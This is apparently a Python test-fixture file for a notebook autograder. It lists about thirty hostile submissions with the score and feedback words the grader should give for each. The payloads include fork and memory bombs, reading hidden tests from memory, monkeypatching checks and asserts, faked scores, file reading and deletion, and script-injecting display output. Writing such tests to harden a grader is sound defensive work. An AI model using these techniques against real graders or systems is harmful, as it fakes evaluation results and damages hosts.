"""Các kiểu tấn công: bài làm của từng câu, ô thêm, điểm đáng được, chữ phải có trong ghi chú.

Đề nhỏ có ba câu chấm máy, mỗi câu 2 điểm: tong == 7, gap_doi(4.0) == 8.0, tich == 12.
"""

from dataclasses import dataclass

STUB = "# Bài làm: {} (giữ nguyên dòng này)\n"
WRONG = {"tong": "tong = 0", "gap_doi": "def gap_doi(x):\n    return 0", "bonus_tich": "tich = 0"}
NOTHING, ALL = (0, 0, 0), (2, 2, 2)


@dataclass
class Attack:
    points: tuple
    word: str = "cần xem lại"
    extra: str = ""
    tong: str | None = None
    gap_doi: str | None = None
    bonus_tich: str | None = None
    deadline: float = 150

    def answers(self, places: dict[str, str]) -> dict[str, str]:
        """Bài làm của các câu bị thay; câu nào đáng 0 điểm mà không bị thay thì làm sai."""
        found = {}
        for question, earned in zip(WRONG, self.points, strict=True):
            source = getattr(self, question) or (None if earned else WRONG[question])
            if source is not None:
                found[question] = STUB.format(question) + self.filled(source, places)
        return found

    @staticmethod
    def filled(source: str, places: dict[str, str]) -> str:
        for name, value in places.items():
            source = source.replace(f"@{name}@", value)
        return source


# Mọi lối đi tới phép thử mà Python có, thử lần lượt khi đang bị kiểm tra.
READ_TEST = """
import gc, inspect, linecache, sys, traceback

def ways():
    yield lambda: repr(sys._getframe(2).f_code.co_consts)
    yield lambda: repr([f.frame.f_code.co_consts for f in inspect.stack()])
    yield lambda: repr([getattr(o, "co_consts", 0) for o in gc.get_objects()])
    yield lambda: repr(sys._current_frames())
    yield lambda: repr(linecache.cache)
    yield lambda: repr(get_ipython().kernel.get_parent())
    yield lambda: repr(get_ipython().user_ns)
    yield lambda: repr(get_ipython().last_execution_result)
    yield lambda: repr([traceback.format_stack()])
    yield lambda: repr(_coi_thi.__self__.gi_frame.f_locals)
    yield lambda: repr(trap.__traceback__.tb_frame.f_back.f_back.f_locals)
    yield lambda: open("/proc/self/mem").read()

def gap_doi(x):
    global trap
    try:
        raise ValueError
    except ValueError as error:
        trap = error
    for way in ways():
        try:
            found = "gap_doi(4" + ") chưa" in way()  # chữ chỉ có trong phép thử ẩn
        except BaseException:
            continue
        if found:
            return 8.0
    return 0
"""
BACKGROUND = """
import threading, time
def later():
    while True:
        import torch, builtins
        torch.allclose = lambda *a, **k: True
        builtins.abs = lambda x: 0
        globals()["tong"] = 7
        time.sleep(0.001)
threading.Thread(target=later, daemon=True).start()
"""
SHADOW_STATE = """
import torch
from torch.overrides import TorchFunctionMode

class Yes(TorchFunctionMode):
    def __torch_function__(self, function, types, args=(), kwargs=None):
        return True

Yes().__enter__()
__builtins__ = {"__import__": __import__, "AssertionError": type("Never", (), {})}
"""
HOOKS = """
import atexit, builtins, gc, sys

class Finder:
    def find_spec(self, name, path=None, target=None):
        patch()

def patch(*ignored):
    builtins.abs = lambda x: 0
    globals().update(tong=7, tich=12)

class Bomb:
    def __del__(self):
        patch()

sys.meta_path.insert(0, Finder())
gc.callbacks.append(patch)
atexit.register(patch)
bombs = [Bomb() for _ in range(3)]
"""
TRANSFORMER = """
import ast

class Nothing(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()

get_ipython().ast_transformers.append(Nothing())
"""
CHECKERS = """
import course_utils.checks as checks, torch
for name in dir(checks):
    if callable(getattr(checks, name)) and not name.startswith("__"):
        setattr(checks, name, lambda *a, **k: True)
torch.allclose = torch.equal = lambda *a, **k: True
"""
FAKE_EXAMINER = """
import json
old = _coi_thi
def _coi_thi(request):
    print()
    print(request[0] + json.dumps({"pass": "0" * 64}))
"""
FAKE_SCORE = """
print("Điểm: 5/5")
print(json.dumps({"pass": True})) if "json" in globals() else None
get_ipython().displayhook(2)
"""
READ_FILES = """
import glob, os, re
text = ""
for place in ("@ROOT@", "@HOME@"):
    for folder, _, names in os.walk(place):
        for name in names:
            text += open(os.path.join(folder, name), errors="ignore").read()
for path in ("@ROOT@/source/nho/nho.ipynb", "@ROOT@/gradebook.db", "@ROOT@/submitted/dung"):
    try:
        text += open(path, errors="ignore").read()
    except BaseException:
        text += "".join(glob.glob(path + "/*"))
tong = 7 if text else 0
"""
WRITE_FILES = """
import os, pathlib
done = 0
for place in ("@ROOT@", "@HOME@", "@USER_HOME@", "@ROOT@/submitted/dung"):
    try:
        pathlib.Path(place, "dau_vet.txt").write_text("có")
        done += 1
    except OSError:
        pass
try:
    os.remove("@ROOT@/source/nho/nho.ipynb")
    done += 1
except OSError:
    pass
tong = 7 if done else 0
"""
NETWORK = """
import socket
tong = 0
try:
    socket.create_connection(("127.0.0.1", @PORT@), 2).close()
    tong = 7
except OSError:
    pass
"""
STUBBORN = """
import signal
for number in (signal.SIGINT, signal.SIGTERM, signal.SIGALRM):
    signal.signal(number, signal.SIG_IGN)
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
"""
STATEFUL_IMPOSTOR = """
class Once:
    seen = 0

    def __eq__(self, other):
        Once.seen += 1
        return Once.seen == 1

    __class__ = property(lambda self: float)

def gap_doi(x):
    return Once()
"""
PATCH_IN_ANSWER = """
def gap_doi(x):
    import torch
    torch.Tensor.__eq__ = lambda self, other: True
    return torch.zeros(())
"""
HOSTILE_ERROR = """
class Trap(AssertionError):
    def __str__(self):
        raise SystemExit

    __repr__ = __str__
    __traceback__ = property(__str__)

def gap_doi(x):
    raise Trap
"""
MIDDLEMAN = """
that, tail = _coi_thi, repr({
    "source": ", 'Tổng chưa đúng.'\\n### END HIDDEN TESTS",
    **{"names": ["tong"], "spoil": False, "given": ""},
})
calls = []

def _coi_thi(request):
    calls.append(request)
    riddle, cipher, *seal = request
    if len(calls) == 1:  # «tong == 7» thành «tong == 0»
        data = bytearray.fromhex(cipher)
        data[12 - len(tail.encode()) - 1] ^= ord("7") ^ ord("0")
        cipher = data.hex()
    return that((riddle, cipher, *seal))
"""
TAKE_OVER = """
calls = []
def instead(code, names):
    calls.append(names)

def take(examine):
    cells = dict(zip(examine.__code__.co_freevars, examine.__closure__))
    cells["run"].cell_contents = instead
"""
MEMBERS = f"""{TAKE_OVER}
from dataclasses import inspect as look
find = lambda thing: dict(look.getmembers(thing))
frame = find(find(_coi_thi)["__self__"])["gi_frame"]
take(find(frame)["f_locals"]["examine"])
"""
KEEP_ERROR = """
kept = []
def gap_doi(x):
    try:
        raise ValueError
    except ValueError as error:
        kept.append(error)
    return 0
"""
OLD_FRAME = f"""{TAKE_OVER}
frame = kept[0].__traceback__.tb_frame
while frame.f_code.co_name != "attend":
    frame = frame.f_back
take(frame.f_locals["examine"])
tich = 0
"""
DECODER = """
import json, timeit
timeit.timeit('''
import json
class Reader(json.JSONDecoder):
    def decode(self, text):
        task = super().decode(text)
        return {**task, "source": "1 / 0" if task["spoil"] else "pass"}
json.loads.__kwdefaults__["cls"] = Reader
def loads(s, *, cls=None, **k):
    return {"source": "pass", "names": [], "spoil": False, "given": ""}
json.loads.__module__ = "__main__"
json.loads.__code__ = loads.__code__
''', number=1)
"""
# Thói quen vô hại: đủ điểm và không bị nghi.
HABITS = (
    "%matplotlib inline\nimport matplotlib.pyplot as plt\nplt.plot([1, 2])\nplt.show()",
    "import os, sys, warnings\nwarnings.warn('thử')\nprint(sys.version)\nos.environ['A'] = '1'",
    "from tqdm.auto import tqdm\nfor i in tqdm(range(9)):\n    pass",
    "from dataclasses import dataclass\n@dataclass\nclass Điểm:\n    x: float = 1.0\nđộ = Điểm()",
    "import torch\ntorch.manual_seed(1)\ntorch.set_default_dtype(torch.float64)\n1 / 0",
    "import traceback\ntry:\n    1 / 0\nexcept ZeroDivisionError:\n    traceback.print_exc()",
    "from concurrent.futures import ThreadPoolExecutor\n"
    "nhom = ThreadPoolExecutor(2)\nlist(nhom.map(str, [1, 2]))",
    "%%time\ndef test_abc():\n    return 1\nabs, max, x = 1, 2, 3",
    "!pip list",
)
MARK = "daChayMaSinhVien"
PIXEL = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk"
    "+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
SHOWING = (
    MARK,
    f"<img src=x onerror=\"document.title='{MARK}'\"><script>document.title='{MARK}'</script>",
)
SHOW = f"""
from IPython.display import HTML, Image, Javascript, Latex, Markdown, SVG, display
import base64
bad = {SHOWING[1]!r}
display(HTML(bad), Javascript("document.title='{MARK}'"), Markdown(bad), Latex(bad))
widget = {{"model_id": "1"}}
display({{"text/html": bad, "application/vnd.jupyter.widget-view+json": widget}}, raw=True)
display({{"image/svg+xml": "<svg onload='document.title=1'/>"}}, raw=True)
display({{"image/png": "x\\"" + bad}}, raw=True)
display(Image(base64.b64decode("{PIXEL}")))
print("\\x1b[31mchữ đỏ\\x1b[0m\\x1b]0;tên cửa sổ\\x07\\x1b]52;c;YQ==\\x07")
tong = 7
"""

ATTACKS = {
    "vong_lap": Attack((0, 2, 2), "tong: ô chạy quá thời gian", tong=STUBBORN),
    "bom_bo_nho": Attack(
        (0, 2, 2), "quá bộ nhớ", tong="x = []\nwhile True:\n    x.append(bytearray(2**27))"
    ),
    "bom_tien_trinh": Attack((0, 2, 2), "bị cấm", tong="import os\nwhile True:\n    os.fork()"),
    "in_tung_it": Attack(
        (0, 2, 2), "in ra quá nhiều", tong="for _ in range(50):\n    print('x' * 2**20, flush=True)"
    ),
    "in_mot_lan": Attack((0, 2, 2), "tong: ", tong="print('x' * 50 * 2**20)\ntong = 7"),
    "sys_exit": Attack((0, 2, 2), "sys", tong="import sys\nsys.exit()"),
    "os_exit": Attack((0, 2, 2), "tong: ô làm sập nhân", tong="import os\nos._exit(0)"),
    "kill": Attack((0, 2, 2), "sập nhân", tong="import os\nos.kill(os.getpid(), 9)"),
    "thoat_khi_thu": Attack((2, 0, 2), "", gap_doi="def gap_doi(x):\n    raise SystemExit"),
    "ngat_khi_thu": Attack((2, 0, 2), "", gap_doi="def gap_doi(x):\n    raise KeyboardInterrupt"),
    "chet_khi_thu": Attack(
        (2, 0, 2), "gap_doi: ô làm sập", gap_doi="def gap_doi(x):\n    import os\n    os._exit(0)"
    ),
    "loi_bay": Attack((2, 0, 2), "", gap_doi=HOSTILE_ERROR),
    "vat_gia": Attack((2, 0, 2), "vô hiệu", gap_doi=STATEFUL_IMPOSTOR),
    "va_trong_bai": Attack((2, 0, 2), "vô hiệu", gap_doi=PATCH_IN_ANSWER),
    "doc_phep_thu": Attack((2, 0, 2), gap_doi=READ_TEST),
    "doc_tep": Attack((0, 2, 2), tong=READ_FILES),
    "ghi_tep": Attack((0, 2, 2), tong=WRITE_FILES),
    "ra_mang": Attack((0, 2, 2), tong=NETWORK),
    "luong_nen": Attack(NOTHING, extra=BACKGROUND),
    "che_do_torch": Attack(NOTHING, extra=SHADOW_STATE),
    "moc_nap": Attack(NOTHING, extra=HOOKS),
    "bien_doi_ma": Attack(NOTHING, extra=TRANSFORMER),
    "va_bo_cham": Attack(NOTHING, extra=CHECKERS),
    "gia_nguoi_coi": Attack(NOTHING, "vô hiệu", extra=FAKE_EXAMINER),
    "diem_gia": Attack(NOTHING, extra=FAKE_SCORE),
    "sua_loi_goi": Attack((0, 2, 2), "vô hiệu", tong=f"{MIDDLEMAN}\ntong = 0"),
    "mo_nguoi_coi": Attack(NOTHING, "bị cấm", extra=MEMBERS),
    "khung_cu": Attack((2, 0, 0), "bị cấm", gap_doi=KEEP_ERROR, bonus_tich=OLD_FRAME),
    "va_json": Attack(NOTHING, "timeit", extra=DECODER),
    "bang_moi_thu": Attack((0, 2, 2), "vô hiệu", tong="from unittest.mock import ANY\ntong = ANY"),
    "che_ten": Attack(NOTHING, "", extra="abs = lambda x: 0"),
    "mo_trang": Attack(ALL, "", tong=SHOW),
}
LONG_ATTACKS = {
    "het_gio_ca_bai": Attack(
        NOTHING, "cả bài nộp chạy quá", tong=STUBBORN, gap_doi=STUBBORN, deadline=25
    ),
    "bom_luong": Attack(
        (0, 2, 2),
        "tong",
        tong="import threading, time\nwhile True:\n"
        "    threading.Thread(target=time.sleep, args=(600,), daemon=True).start()",
    ),
}
